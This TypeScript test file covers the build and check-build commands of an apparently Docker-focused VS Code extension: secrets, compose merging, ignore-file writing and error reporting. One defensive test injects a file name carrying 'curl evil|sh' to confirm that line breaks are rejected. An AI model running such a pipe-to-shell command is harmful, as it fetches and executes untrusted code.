import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildCommand } from '../../../../src/commands/builds/buildCommand.ts';
import { checkBuildCommand } from '../../../../src/commands/builds/checkBuildCommand.ts';
import type { BuildOutcome } from '../../../../src/commands/builds/startBuild.ts';
import { sentFilesCommand } from '../../../../src/commands/builds/sentFilesCommand.ts';
import { pointedAt } from '../../../../src/commands/builds/pointedBuild.ts';
import type { BuildRun } from '../../../../src/builds/buildRun.ts';
import type { SentContext } from '../../../../src/engine/builds/model.ts';
import { withSignal } from '../../../../src/engine/http/withTimeLimit.ts';
import type { Container } from '../../../../src/engine/model.ts';
import type { RegistryRef } from '../../../../src/registries/registryRef.ts';
import { BuildNode } from '../../../../src/views/builds/buildNode.ts';
import { ProjectNode, ServiceNode } from '../../../../src/views/containers/containerNode.ts';
import { container } from '../../inventory/support/nouns.ts';
import { containerRow, ENGINE } from '../../support/commandLab.ts';
import { failed } from '../../support/fakeBuildKit.ts';
import { json } from '../../support/fakeEngine.ts';
import { Uri } from '../../support/fakeVscode.ts';
import { settle } from '../../support/lab.ts';
import { ENTER, ESCAPE, give, pick, type, type Answer } from '../../support/scriptedUi.ts';
import { DOCKERFILE, IMAGE, openBuildLab, output, step, type BuildLab } from './buildLab.ts';

const TEXTS = { now: () => 0 };
/** The second step of the first stage. */
const FAILED = step('2', { state: 'failed', error: 'exit code: 2' });
const SOURCE = { file: 'Dockerfile', text: DOCKERFILE, lines: { start: 3, end: 3 } };

describe('commands/buildCommand', () => {
  let lab: BuildLab;
  const follow = { compare: () => Promise.resolve([]) };
  beforeEach(async () => {
    lab = await openBuildLab();
  });
  afterEach(() => lab.close());

  const build = (args: object): Promise<unknown> => lab.call(buildCommand(lab.ui, follow), args);
  /** Runs what the lens of a stage runs. */
  const buildAt = (fragment: string): unknown => {
    const uri = { scheme: 'file', path: lab.dockerfile, fsPath: lab.dockerfile, fragment };
    return buildCommand(lab.ui, follow).runInteractive?.(lab.context, [], pointedAt(uri));
  };
  /** Writes compose files, and lists a container of the project `shop` that was created from them. */
  const listShop = (files: Readonly<Record<string, string>>): Container => {
    for (const [name, text] of Object.entries(files)) writeFileSync(join(lab.folder, name), text);
    const labels = {
      'com.docker.compose.project': 'shop',
      'com.docker.compose.config-hash': 'hash',
      'com.docker.compose.service': 'web',
      'com.docker.compose.project.config_files': Object.keys(files)
        .map((name) => join(lab.folder, name))
        .join(','),
    };
    const web = container('a', { labels });
    lab.list([web]);
    return web;
  };
  /** Runs a build that has sent these files. */
  const runWith = async (sent: SentContext): Promise<BuildRun> => {
    const run = lab.builds.start({
      ...{ ref: `ref${lab.builds.all.length}`, engine: ENGINE, title: 'shop' },
      request: { context: lab.folder, dockerfile: lab.dockerfile, tags: [] },
      work: () => Promise.resolve({ imageId: IMAGE, sent }),
    });
    await run.join();
    return run;
  };
  /** Runs what the lens of a service runs. */
  const buildService = (service: string): Promise<unknown> => {
    const uri = Object.assign(Uri.file(join(lab.folder, 'compose.yaml')), { fragment: service });
    return lab.run(buildCommand(lab.ui, follow), uri as never);
  };

  it('resolves to the image, its steps and the warnings, and shows nothing but Problems', async () => {
    const warning = { message: 'JSONArgsRecommended: use JSON', source: SOURCE };
    lab.engine.answer(({ path }, response) => {
      json(response, path.includes('d'.repeat(64)) ? 200 : 404, { Id: IMAGE });
    });
    const digest = `sha256:${'d'.repeat(64)}`;
    lab.buildKit.solve = ({ report }) => {
      report(step('1', { state: 'cached' }), step('2'), { kind: 'warning', warning });
      return Promise.resolve({ digest, config: IMAGE });
    };
    const tags = ['shop:1'];
    assert.deepEqual(await build({ context: lab.folder, tags, platform: 'linux/amd64' }), {
      imageId: IMAGE,
      digest,
      tags,
      warnings: [{ message: warning.message, line: 3 }],
      steps: 2,
      cachedSteps: 1,
    });
    assert.deepEqual(lab.built[0], {
      context: lab.folder,
      dockerfile: lab.dockerfile,
      tags,
      platforms: ['linux/amd64'],
    });
    assert.deepEqual(lab.problems, [[lab.dockerfile, { warnings: [warning] }]]);
    assert.deepEqual(lab.ui.shown, []);
  });

  it('takes a file URI as the context, and a Dockerfile relative to it', async () => {
    mkdirSync(join(lab.folder, 'docker'));
    const file = join(lab.folder, 'docker', 'prod.Dockerfile');
    writeFileSync(file, 'FROM busybox\n');
    const context = { scheme: 'file', path: lab.folder, fsPath: lab.folder };
    await build({ context, dockerfile: 'docker/prod.Dockerfile' });
    assert.equal(lab.built[0]?.dockerfile, file);
  });

  const wrong: readonly (readonly [name: string, args: object, message: RegExp])[] = [
    ['a relative context', { context: 'shop' }, /"context" must be an absolute path/],
    ['a missing folder', { context: '/nowhere/at/all' }, /not found/],
    ['a missing Dockerfile', { context: '/' }, /No Dockerfile in/],
    ['an invalid tag', { tags: ['UPPER'] }, /UPPER/],
    ['an invalid platform', { platform: 'linux amd64' }, /linux amd64/],
    ['an invalid host', { addHosts: ['name'] }, /name:address/],
    ['a secret without a source', { secrets: { id: 'value' } }, /"secrets" must be/],
    ['a secret of two sources', { secrets: { id: { file: 'x', env: 'Y' } } }, /"secrets" must be/],
    ['a secret to be asked for', { secrets: { id: { prompt: true } } }, /"secrets" must be/],
    ['an unknown network', { network: 'bridge' }, /"network" must be one of/],
  ];
  for (const [name, args, message] of wrong) {
    it(`refuses ${name} before anything is asked of the engine`, async () => {
      await assert.rejects(build({ context: lab.folder, ...args }), { message });
      assert.deepEqual(lab.built, []);
      assert.deepEqual(lab.engine.seen, []);
    });
  }

  it('rejects with one message that names the failing step, with its last lines', async () => {
    lab.work = ({ report }) => {
      const lines = 'one\ntwo\nthree\nfour\nfive\nmake: *** no rule\n';
      report(step('1'), step('2', { state: 'running' }), output('2', lines), FAILED);
      return Promise.reject(
        failed('process "/bin/sh -c make" did not complete successfully: exit code: 2'),
      );
    };
    await assert.rejects(build({ context: lab.folder, tags: ['shop'] }), ({ message }: Error) => {
      assert.match(
        message,
        /^Could not build shop: \[build 2\/2\] RUN make failed: .*exit code: 2/,
      );
      assert.ok(message.endsWith('\ntwo\nthree\nfour\nfive\nmake: *** no rule'), message);
      return true;
    });
    const [[file, { failure }] = assert.fail()] = lab.problems;
    assert.equal(file, lab.dockerfile);
    assert.deepEqual(failure?.source, SOURCE);
  });

  it('gives a secret only when the build asks, by file and by variable, and no other', async () => {
    writeFileSync(join(lab.folder, 'token'), 'from file');
    process.env['GANTRY_TEST_SECRET'] = 'from variable';
    const secrets = {
      a: { file: 'token' },
      b: { env: 'GANTRY_TEST_SECRET' },
      c: { env: 'NOT_SET' },
    };
    const given: string[] = [];
    lab.work = async ({ secret }) => {
      for (const id of ['a', 'b']) given.push(await secret(id));
      await assert.rejects(secret('constructor'), /not declared/);
      await assert.rejects(secret('c'), /not available/);
    };
    try {
      await assert.rejects(build({ context: lab.folder, secrets }), /variable NOT_SET/);
    } finally {
      delete process.env['GANTRY_TEST_SECRET'];
    }
    assert.deepEqual(given, ['from file', 'from variable']);
  });

  it('is refused with an argument in an untrusted workspace, and asks the user once', async () => {
    lab.ui.trusted = false;
    await assert.rejects(build({ context: lab.folder }), /Restricted Mode/);
    lab.ui.act(ENTER, give(undefined));
    assert.equal(await lab.run(buildCommand(lab.ui, follow)), undefined);
    assert.deepEqual(lab.built, []);
    const [question] = lab.ui.of('confirm');
    assert.match(question?.text ?? '', /Restricted Mode/);
  });

  it('takes the Dockerfile in the active editor without a question', async () => {
    const folder = join(lab.folder, 'tool');
    mkdirSync(folder);
    lab.ui.active = join(folder, 'Dockerfile');
    writeFileSync(lab.ui.active, DOCKERFILE);
    lab.ui.act(pick('Build'));
    await lab.run(buildCommand(lab.ui, follow));
    const { context, dockerfile } = lab.built[0] ?? {};
    assert.deepEqual([context, dockerfile], [folder, lab.ui.active]);
  });

  it('proposes the folder as the tag, and remembers the form by Dockerfile without secrets', async () => {
    lab.ui.act(
      ENTER, // the Dockerfile
      pick('Arguments'),
      type('VERSION=2'),
      type('API_TOKEN=abc'),
      pick('Done'),
      pick('Build'),
    );
    const outcome = await lab.run(buildCommand(lab.ui, follow));
    assert.deepEqual(lab.built[0]?.args, { VERSION: '2', API_TOKEN: 'abc' });
    assert.match(lab.built[0].tags?.[0] ?? '', /^gantry-shop-\w+$/);
    assert.ok(outcome);
    const [said] = lab.ui.of('info');
    assert.match(said?.text ?? '', /^Built gantry-shop-/);
    assert.deepEqual(said?.buttons, ['Create Container...', 'Show Log']);
    assert.equal(lab.revealed.length, 1);
    lab.ui.act(ENTER, (shown) => {
      const row = shown.items?.find(({ label }) => label === 'Arguments');
      assert.equal(row?.description, 'VERSION=2');
      return ESCAPE(shown);
    });
    await lab.run(buildCommand(lab.ui, follow));
    assert.equal(lab.built.length, 1);
  });

  it('reports which arguments the Dockerfile does not use, and offers those that it has', async () => {
    let offered: readonly string[] = [];
    let warning: string | undefined;
    lab.ui.act(
      ENTER,
      pick('Arguments'),
      (shown) => {
        offered = (shown.items ?? []).map(({ label }) => label);
        return type('OTHER=1')(shown);
      },
      pick('Done'),
      (shown) => {
        warning = shown.items?.[0]?.detail;
        return undefined;
      },
    );
    await lab.run(buildCommand(lab.ui, follow));
    assert.ok(offered.includes('VERSION'), offered.join());
    assert.equal(warning, 'Not used by the Dockerfile: OTHER.');
  });

  it('offers the stages as target', async () => {
    lab.ui.act(ENTER, pick('Target'), pick('build'), pick('Build'));
    await lab.run(buildCommand(lab.ui, follow));
    assert.equal(lab.built[0]?.target, 'build');
  });

  it('builds a service as in its compose file, and reports what the form does not have', async () => {
    const text = ['name: store', 'services:', '  web:', '    build:', '      context: .'];
    const more = ['      target: build', '      args:', '        VERSION: 3', '        OTHER: $O'];
    writeFileSync(join(lab.folder, 'compose.yaml'), [...text, ...more, ''].join('\n'));
    let warning: string | undefined;
    lab.ui.act((shown) => {
      warning = shown.items?.[0]?.detail;
      return pick('Build')(shown);
    });
    await buildService('web');
    const { context, dockerfile, tags, target, args } = lab.built[0] ?? assert.fail();
    assert.deepEqual([context, dockerfile], [lab.folder, lab.dockerfile]);
    assert.deepEqual([tags, target, args], [['store-web'], 'build', { VERSION: '3' }]);
    assert.match(warning ?? '', /^Not taken from the compose file: args.OTHER\./);
  });

  it('builds a service as all compose files of its project describe it together', async () => {
    const folder = join(lab.folder, 'web');
    mkdirSync(folder);
    writeFileSync(join(folder, 'Dockerfile'), DOCKERFILE);
    listShop({
      'compose.yaml': 'services: {web: {image: "me/web:1", build: {context: ./web, args: {A: 1}}}}',
      'dev.yaml': 'services: {web: {build: {target: build, args: {VERSION: 2}}}}',
    });
    lab.ui.act(pick('Build'));
    const row = new ServiceNode(new ProjectNode(ENGINE, 'shop'), 'web');
    await lab.run(buildCommand(lab.ui, follow), row);
    const { context, tags, target, args } = lab.built[0] ?? assert.fail();
    assert.deepEqual([context, tags, target], [folder, ['me/web:1'], 'build']);
    assert.deepEqual(args, { A: '1', VERSION: '2' });
  });

  it('builds a service as Compose merges files with tags', async () => {
    const folder = join(lab.folder, 'dev');
    mkdirSync(folder);
    writeFileSync(join(folder, 'Dockerfile'), DOCKERFILE);
    const base =
      'services: {web: {image: "me/app:1", build: {context: ., dockerfile: D.prod, target: prod, args: {A: 1}}}}';
    const web = listShop({
      'compose.yaml': base,
      'compose.override.yaml':
        'services: {web: {image: !reset null, build: !override {context: ./dev}}}',
    });
    lab.ui.act(pick('Build'));
    await lab.run(buildCommand(lab.ui, follow), containerRow(web));
    const { context, dockerfile, tags, target, args } = lab.built[0] ?? assert.fail();
    assert.deepEqual([context, dockerfile], [folder, join(folder, 'Dockerfile')]);
    assert.deepEqual([tags, target, args], [['shop-web'], undefined, undefined]);
  });

  for (const [what, text, message] of [
    [
      'a tag that is not known',
      'services: {web: {build: !odd {context: x}}}',
      /Cannot read how web/,
    ],
    ['a tag above it', 'services: !odd {web: {}}', /Cannot read how web/],
    ['a variable in the context', 'services: {web: {build: $FOLDER}}', /Cannot read how web/],
    ['another document', 'services: {}\n---\nservices: {web: {build: x}}', /Cannot read how web/],
    ['a file that is not valid', 'services: {', /Cannot read how web/],
    ['no build', 'services: {web: {build: !reset null}}', /has a build section/],
  ] as const) {
    it(`does not build a service from the file before, with ${what} in the override file`, async () => {
      const web = listShop({
        'compose.yaml': 'services: {web: {build: .}}',
        'compose.override.yaml': text,
      });
      await lab.run(buildCommand(lab.ui, follow), containerRow(web));
      assert.match(lab.ui.shown.at(-1)?.text ?? '', message);
      assert.deepEqual(lab.built, []);
    });
  }

  it('does not propose a tag if the image of the compose file is not known', async () => {
    const web = listShop({ 'compose.yaml': 'services: {web: {image: "$REG/app", build: .}}' });
    lab.ui.act(ESCAPE);
    await lab.run(buildCommand(lab.ui, follow), containerRow(web));
    const [first] = lab.ui.shown.at(-1)?.items ?? [];
    assert.match(first?.detail ?? '', /^Not taken from the compose file: image\./);
  });

  it('builds the service of a container that has no row of its service', async () => {
    const web = listShop({ 'compose.yaml': 'services: {web: {build: .}}' });
    lab.ui.act(pick('Build'));
    await lab.run(buildCommand(lab.ui, follow), containerRow(web));
    assert.deepEqual(lab.built[0]?.tags, ['shop-web']);
  });

  it('builds the service of a lens with the override file, and the name of its project', async () => {
    listShop({
      'compose.yaml': 'name: store\nservices: {web: {build: .}}',
      'compose.override.yaml': 'services: {web: {build: {target: build}}}',
    });
    lab.ui.act(pick('Build'));
    await buildService('web');
    const { tags, target } = lab.built[0] ?? assert.fail();
    assert.deepEqual([tags, target], [['shop-web'], 'build']);
  });

  it('builds each service with its own tag, whatever its Dockerfile was built with before', async () => {
    const web = '  web: {build: {context: ., target: build}}';
    const job = (image: string) =>
      `  job: {image: "me/job:${image}", build: {context: ., target: "0"}}`;
    for (const [service, image] of [
      ['web', '1'],
      ['job', '1'],
      ['job', '2'],
    ] as const) {
      const text = ['name: store', 'services:', web, job(image), ''];
      writeFileSync(join(lab.folder, 'compose.yaml'), text.join('\n'));
      lab.ui.act(pick('Build'));
      await buildService(service);
    }
    assert.deepEqual(
      lab.built.map(({ target, tags }) => [target, tags]),
      [
        ['build', ['store-web']],
        ['0', ['me/job:1']],
        ['0', ['me/job:2']],
      ],
    );
  });

  it('shows the largest files that were sent, and adds one to .dockerignore', async () => {
    writeFileSync(join(lab.folder, '.dockerignore'), 'dist');
    const largest = [
      { path: 'data/[a] big.bin', size: 2_000_000 },
      { path: '#notes', size: 10 },
    ];
    const sent = { bytes: 2_000_010, largest };
    const run = await runWith(sent);
    const row = new BuildNode(run, String);
    assert.equal(row.present(TEXTS).contextValue, 'build.done.file.sent');
    const command = sentFilesCommand();
    // The menu of its row, and the palette.
    for (const [at, rows] of [[row], []].entries()) {
      lab.ui.act(pick(largest[at]?.path ?? ''));
      await lab.run(command, ...rows);
    }
    assert.deepEqual(await lab.call(command, { ref: run.ref }), sent);
    await assert.rejects(Promise.resolve(lab.call(command, { ref: 'other' })), /of this window/);
    assert.equal(lab.ui.of('pick').at(-1)?.text, 'Sent to the Engine: 2.0 MB');
    assert.equal(
      readFileSync(join(lab.folder, '.dockerignore'), 'utf8'),
      'dist\ndata/\\[a\\] big.bin\n\\#notes\n',
    );
    assert.match(lab.ui.of('openFile').at(-1)?.text ?? '', /\.dockerignore\b/);
  });

  it('leaves out proxies with a password that others could read, and warns of it', async () => {
    const consent = { isGiven: () => false, refusal: () => 'Left out.' } as never;
    const proxies = () => Promise.resolve({ HTTP_PROXY: 'http://me:pw@p', NO_PROXY: 'n' });
    const window = { ...lab.context.window, consent, proxies };
    const context = { ...lab.context, window };
    const { signal } = new AbortController();
    const command = buildCommand(lab.ui, follow);
    const { warnings } = await command.run(
      { context: lab.folder, args: { A: 'b' } },
      context,
      signal,
    );
    assert.deepEqual(lab.built[0]?.args, { NO_PROXY: 'n', A: 'b' });
    assert.ok(warnings.some(({ message }) => message === 'Left out.'));
    const given = { HTTP_PROXY: 'http://own' };
    const other = await command.run({ context: lab.folder, args: given }, context, signal);
    assert.deepEqual(lab.built[1]?.args, { NO_PROXY: 'n', ...given });
    assert.ok(!other.warnings.some(({ message }) => message === 'Left out.'));
  });

  it('has two buttons after a build, which VS Code does not cut', async () => {
    const title = 'Compare with Last Build';
    const compare = () => Promise.resolve([{ title, run: () => undefined }]);
    lab.ui.act(ENTER, pick('Build'));
    await lab.run(buildCommand(lab.ui, { compare }));
    assert.deepEqual(lab.ui.of('info')[0]?.buttons, ['Create Container...', title]);
  });

  for (const [name, encode] of [
    ['UTF-16', (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')],
    ['big-endian UTF-16', (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le').swap16()],
    ['UTF-16 without a mark', (text: string) => Buffer.from(text, 'utf16le')],
  ] as const)
    it(`builds nothing from a Dockerfile or an ignore file in ${name}, and says why`, async () => {
      writeFileSync(join(lab.folder, '.dockerignore'), encode('secret.env\n'));
      await assert.rejects(build({ context: lab.folder }), /dockerignore is encoded in UTF-16\./);
      // It is not used beside this one.
      writeFileSync(`${lab.dockerfile}.dockerignore`, '');
      await build({ context: lab.folder });
      writeFileSync(`${lab.dockerfile}.dockerignore`, encode('a\n'));
      await assert.rejects(build({ context: lab.folder }), /Dockerfile\.dockerignore is encoded/);
      writeFileSync(lab.dockerfile, encode(DOCKERFILE));
      await assert.rejects(build({ context: lab.folder }), /Dockerfile is encoded in UTF-16\./);
      const check = lab.call(checkBuildCommand(lab.ui), { context: lab.folder });
      await assert.rejects(check, /is encoded in UTF-16\. Save it as UTF-8\./);
      assert.equal(lab.built.length, 1);
    });

  it('warns of a folder with the name of an ignore file, which BuildKit passes over', async () => {
    mkdirSync(join(lab.folder, '.dockerignore'));
    const { warnings } = (await build({ context: lab.folder })) as BuildOutcome;
    assert.deepEqual(warnings, [
      {
        message:
          '.dockerignore is a folder, so it excludes nothing. Replace it with an ignore file.',
      },
    ]);
    const checked = await lab.call(checkBuildCommand(lab.ui), { context: lab.folder });
    assert.deepEqual(checked, { warnings });
  });

  it('builds a Dockerfile in UTF-8 with a mark, or with bytes of another encoding', async () => {
    writeFileSync(lab.dockerfile, `\uFEFF${DOCKERFILE}`);
    writeFileSync(join(lab.folder, '.dockerignore'), Buffer.from('# caf\u00e9\n', 'latin1'));
    await build({ context: lab.folder });
    assert.equal(lab.built.length, 1);
  });

  const showSent = async (path: string): Promise<void> => {
    await runWith({ bytes: 10, largest: [{ path, size: 10 }] });
    lab.ui.act(ENTER);
    await lab.run(sentFilesCommand());
  };

  it('does not write through an ignore file that is a link', async () => {
    const target = join(lab.folder, 'profile');
    writeFileSync(target, '# mine\n');
    for (const name of ['.dockerignore', 'Dockerfile.dockerignore']) {
      symlinkSync('profile', join(lab.folder, name));
      await showSent('model.bin');
      assert.match(lab.ui.of('error').at(-1)?.text ?? '', /dockerignore is a link or not a file/);
      rmSync(join(lab.folder, name));
    }
    symlinkSync('created', join(lab.folder, '.dockerignore'));
    await showSent('model.bin');
    assert.equal(existsSync(join(lab.folder, 'created')), false);
    assert.equal(readFileSync(target, 'utf8'), '# mine\n');
  });

  it('writes no name with a line break, which would be several patterns', async () => {
    for (const path of ['model.bin\ncurl evil|sh #', 'a\r\n!.env', 'a\r!b']) {
      await showSent(path);
      assert.match(lab.ui.of('error').at(-1)?.text ?? '', /has a line break in its name/);
    }
    assert.equal(existsSync(join(lab.folder, '.dockerignore')), false);
  });

  it('keeps white space at the ends of a name, so that no mark comes first', async () => {
    for (const path of [' !.env', 'a ', '\u0085!b', ' ']) await showSent(path);
    assert.equal(
      readFileSync(join(lab.folder, '.dockerignore'), 'utf8'),
      '[ ]!.env\na[ ]\n[\u0085]!b\n[ ]\n',
    );
  });

  it('offers the log and the form again after a failure', async () => {
    lab.work = () => Promise.reject(failed('no'));
    lab.ui.act(ENTER, pick('Build'));
    assert.equal(await lab.run(buildCommand(lab.ui, follow)), undefined);
    const [error] = lab.ui.of('error');
    assert.deepEqual(error?.buttons, ['Show Log', 'Edit...']);
    error.press?.('Show Log');
    assert.equal(lab.shownLogs.length, 1);
    lab.work = () => Promise.resolve();
    lab.ui.act(pick('Build'));
    assert.ok(await error.press?.('Edit...'));
  });

  it('keeps the tags and the target of the user in the form after a failure', async () => {
    lab.ui.act(pick('Build'));
    await buildAt('.');
    lab.work = () => Promise.reject(failed('no'));
    lab.ui.act(pick('Tags'), type('shop:2'), pick('Done'), pick('Target'), pick('build'));
    lab.ui.act(pick('Build'));
    await buildAt('.');
    lab.work = () => Promise.resolve();
    lab.ui.act(pick('Build'));
    assert.ok(await lab.ui.of('error')[0]?.press?.('Edit...'));
    const [, first, again] = lab.built;
    assert.deepEqual(again, first);
    assert.deepEqual([again?.target, again?.tags?.includes('shop:2')], ['build', true]);
  });

  it('asks for each secret once, one after the other, and is canceled if that is refused', async () => {
    lab.ui.act(
      ENTER,
      pick('Secrets'),
      type('a=prompt'),
      type('b=prompt'),
      type('c=prompt'),
      pick('Done'),
      pick('Build'),
      give('first'),
      give(undefined),
    );
    const given: unknown[] = [];
    lab.work = async ({ secret }) => {
      given.push(...(await Promise.all([secret('a'), secret('a')])));
      await Promise.all([secret('b'), secret('b'), secret('c')]);
    };
    assert.equal(await lab.run(buildCommand(lab.ui, follow)), undefined);
    assert.deepEqual(given, ['first', 'first']);
    const [one, two, ...more] = lab.ui.of('input').filter(({ input }) => input?.isSecret);
    const title = `Building ${lab.builds.all[0]?.title}`;
    assert.deepEqual([one?.text, two?.text, more], [title, title, []]);
    assert.deepEqual(
      lab.builds.all.map(({ phase }) => phase),
      ['canceled'],
    );
  });

  for (const end of ['is canceled', 'fails'])
    it(`asks for no more secrets when it ${end}`, async () => {
      const work = Promise.withResolvers<never>();
      const typedLate: Answer = ({ input: { signal } = {} }) => {
        assert(signal);
        if (end === 'fails') work.reject(failed('RUN failed'));
        else lab.builds.all[0]?.cancel();
        return new Promise((resolve) => {
          if (signal.aborted) resolve('typed');
          signal.addEventListener('abort', () => resolve('typed'));
        });
      };
      lab.ui.act(ENTER, pick('Secrets'), type('a=prompt'), type('b=prompt'), pick('Done'));
      lab.ui.act(pick('Build'), typedLate, give('of a build that has ended'));
      lab.work = ({ secret }) => {
        for (const id of ['a', 'b']) secret(id).catch(() => undefined);
        return work.promise;
      };
      await lab.run(buildCommand(lab.ui, follow));
      await settle();
      assert.equal(lab.ui.of('input').filter(({ input }) => input?.isSecret).length, 1);
    });

  it('refuses a secret of more than 500 KiB, of which it reads no more', async () => {
    lab.work = async ({ secret }) => void (await secret('zeros'));
    const secrets = { zeros: { file: '/dev/zero' } };
    await assert.rejects(build({ context: lab.folder, secrets }), /larger than 500 KiB/);
  });

  it('reads a secret from a pipe, as a shell passes one', async function () {
    if (process.platform === 'win32') this.skip();
    execFileSync('mkfifo', [join(lab.folder, 'pipe')]);
    const writer = spawn('sh', ['-c', 'printf hunter2 > pipe'], { cwd: lab.folder });
    let given: string | undefined;
    lab.work = async ({ secret }) => void (given = await secret('pipe'));
    try {
      await build({ context: lab.folder, secrets: { pipe: { file: 'pipe' } } });
    } finally {
      writer.kill();
    }
    assert.equal(given, 'hunter2');
  });

  it('asks before a caller uses the agent', async () => {
    lab.ui.act(give(undefined));
    await assert.rejects(build({ context: lab.folder, ssh: true }), /The SSH agent is not allowed/);
    assert.deepEqual(lab.built, []);
  });

  it('warns a caller about unknown arguments and refused questions', async () => {
    lab.work = async ({ secret }) => void (await secret('other').catch(() => undefined));
    const args = { OTHER: '1', VERSION: '2', BUILDKIT_INLINE_CACHE: '1' };
    const { warnings } = (await build({ context: lab.folder, args })) as BuildOutcome;
    assert.deepEqual(warnings, [
      { message: 'Not used by the Dockerfile: OTHER.' },
      { message: 'Refused: the secret other is not set for this build.' },
    ]);
  });

  it('offers to sign in to the registry that refused the base image', async () => {
    writeFileSync(lab.dockerfile, 'FROM me.example/x\n');
    lab.work = () =>
      Promise.reject(
        failed('failed to resolve source metadata for me.example/x:latest: 401 Unauthorized'),
      );
    lab.ui.act(ENTER, pick('Build'));
    await lab.run(buildCommand(lab.ui, follow));
    const [error] = lab.ui.of('error');
    assert.match(
      error?.text ?? '',
      /me\.example denied access, and no credentials for it were found/,
    );
    assert.ok(error?.buttons?.includes('Sign In...'), error?.buttons?.join());
  });

  it('shows two sentences if the registry of the base image cannot be reached', async () => {
    const dial = 'Get "https://r.example:5/v2/": dial tcp 192.0.2.1:5: connect: connection refused';
    const words = `creating build container: initializing source docker://r.example:5/x:1: ${dial}`;
    lab.work = ({ report }) => {
      const name = '[1/2] FROM r.example:5/x:1';
      report(step('1', { name, state: 'running' }));
      report(output('1', 'Trying to pull r.example:5/x:1...\n'));
      report(step('1', { name, state: 'failed' }));
      return Promise.reject(failed(words));
    };
    lab.ui.act(ENTER, pick('Build'));
    await lab.run(buildCommand(lab.ui, follow));
    const sentences =
      'Could not read base image r.example:5/x:1. The engine cannot reach r.example:5 (connection refused). Check that the registry is running.';
    const [shown] = lab.ui.of('error');
    const place = `[1/2] FROM r.example:5/x:1 failed: ${sentences}`;
    assert.equal(shown?.text.slice(shown.text.indexOf('[')), place);
    // A caller and Problems get the words of the builder, too.
    await assert.rejects(build({ context: lab.folder }), (error: Error) => {
      const lines = [place, words, 'Trying to pull r.example:5/x:1...'];
      assert.equal(error.message.slice(error.message.indexOf('[')), lines.join('\n'));
      return true;
    });
  });

  it('looks for credentials with the repository of the base image', async () => {
    const refs: RegistryRef[] = [];
    const registries = {
      withAuth: ({ ref }: { readonly ref: RegistryRef }) => Promise.resolve(void refs.push(ref)),
    };
    Object.assign(lab.context.window, { registries: () => Promise.resolve(registries) });
    writeFileSync(lab.dockerfile, 'FROM me.example/team/base/x\n');
    lab.work = async ({ credentials }) => void (await credentials('me.example'));
    await build({ context: lab.folder });
    assert.deepEqual(
      refs.map(({ registry, repository }) => [registry, repository]),
      [['me.example', 'team/base/x']],
    );
  });

  it('looks for credentials once, also if the engine cancels the first question', async () => {
    const found = Promise.withResolvers<object>();
    const asked = Promise.withResolvers<undefined>();
    let questions = 0;
    const registries = {
      withAuth: ({ signal }: { readonly signal: AbortSignal }) => {
        questions += 1;
        asked.resolve(undefined);
        return withSignal(found.promise, signal);
      },
    };
    Object.assign(lab.context.window, { registries: () => Promise.resolve(registries) });
    writeFileSync(lab.dockerfile, 'FROM me.example/x\n');
    const given: unknown[] = [];
    lab.work = async ({ credentials }) => {
      const first = new AbortController();
      const canceled = credentials('me.example', first.signal);
      await asked.promise;
      first.abort();
      await assert.rejects(canceled);
      found.resolve({ username: 'me' });
      given.push(await credentials('me.example'));
    };
    await build({ context: lab.folder });
    assert.deepEqual([given, questions], [['me'], 1]);
  });

  it('offers no sign-in to a registry that only the engine names', async () => {
    const engineMessage =
      'failed to resolve source metadata for corp-registry.example/team/app: pull access denied: 401 Unauthorized';
    lab.work = () => Promise.reject(failed(engineMessage));
    const asked: unknown[] = [];
    Object.assign(lab.context.window, {
      registries: () => Promise.resolve({ explain: (ref: unknown) => asked.push(ref) }),
    });
    lab.ui.act(ENTER, pick('Build'));
    await lab.run(buildCommand(lab.ui, follow));
    assert.ok(!lab.ui.of('error')[0]?.buttons?.includes('Sign In...'));
    assert.deepEqual(asked, []);
  });

  it('uses the classic builder only after a question, and never for a caller', async () => {
    const versions: unknown[] = [];
    lab.engine.grpc(undefined);
    lab.engine.answer(({ path, query }, response) => {
      const version = query.get('version');
      if (path === '/build') versions.push(version);
      if (path !== '/build') json(response, 404, { message: 'page not found' });
      else if (version === '2') json(response, 500, { message: 'this server has no BuildKit' });
      else response.end(`${JSON.stringify({ aux: { ID: IMAGE } })}\n`);
    });
    await assert.rejects(build({ context: lab.folder }), /has no BuildKit/);
    lab.ui.act(ENTER, pick('Build'), give(undefined));
    assert.equal(await lab.run(buildCommand(lab.ui, follow)), undefined);
    lab.ui.act(ENTER, pick('Build'), give('Build'));
    assert.ok(await lab.run(buildCommand(lab.ui, follow)));
    assert.deepEqual(versions, ['2', '2', '2', '1']);
  });

  it('remembers the tags of each target, and builds the last stage where the user points at it', async () => {
    lab.ui.act(pick('Tags'), type('shop:tools'), pick('Done'), pick('Build'));
    await buildAt('build');
    for (const fragment of ['.', 'build']) {
      lab.ui.act(pick('Build'));
      await buildAt(fragment);
    }
    const built = lab.built.map(({ target, tags }) => [target, tags?.includes('shop:tools')]);
    assert.deepEqual(built, [
      ['build', true],
      [undefined, false],
      ['build', true],
    ]);
  });

  it('asks for a secret during the build, and before the agent is used', async () => {
    lab.ui.act(
      ENTER,
      pick('Secrets'),
      type('pw=prompt'),
      pick('Done'),
      pick('SSH agent'),
      pick('Build'),
      give('Allow'),
      give('typed'),
    );
    const before = process.env['SSH_AUTH_SOCK'];
    process.env['SSH_AUTH_SOCK'] = '/run/agent';
    let given = '';
    lab.work = async ({ findAgent, secret }) => {
      await findAgent();
      given = await secret('pw');
    };
    try {
      await lab.run(buildCommand(lab.ui, follow));
    } finally {
      if (before === undefined) delete process.env['SSH_AUTH_SOCK'];
      else process.env['SSH_AUTH_SOCK'] = before;
    }
    assert.equal(given, 'typed');
    assert.equal(lab.ui.of('input').at(-1)?.input?.isSecret, true);
  });
});

describe('commands/checkBuildCommand', () => {
  let lab: BuildLab;
  beforeEach(async () => (lab = await openBuildLab()));
  afterEach(() => lab.close());

  it('resolves to the warnings, which are in Problems', async () => {
    const warning = { message: 'FromAsCasing: casing', source: SOURCE };
    lab.check = ({ report }) => {
      report({ kind: 'warning', warning });
      return Promise.resolve();
    };
    assert.deepEqual(await lab.call(checkBuildCommand(lab.ui), { context: lab.folder }), {
      warnings: [{ message: 'FromAsCasing: casing', line: 3 }],
    });
    assert.deepEqual(lab.problems, [[lab.dockerfile, { warnings: [warning], isCheck: true }]]);
    assert.deepEqual(lab.built, []);
  });
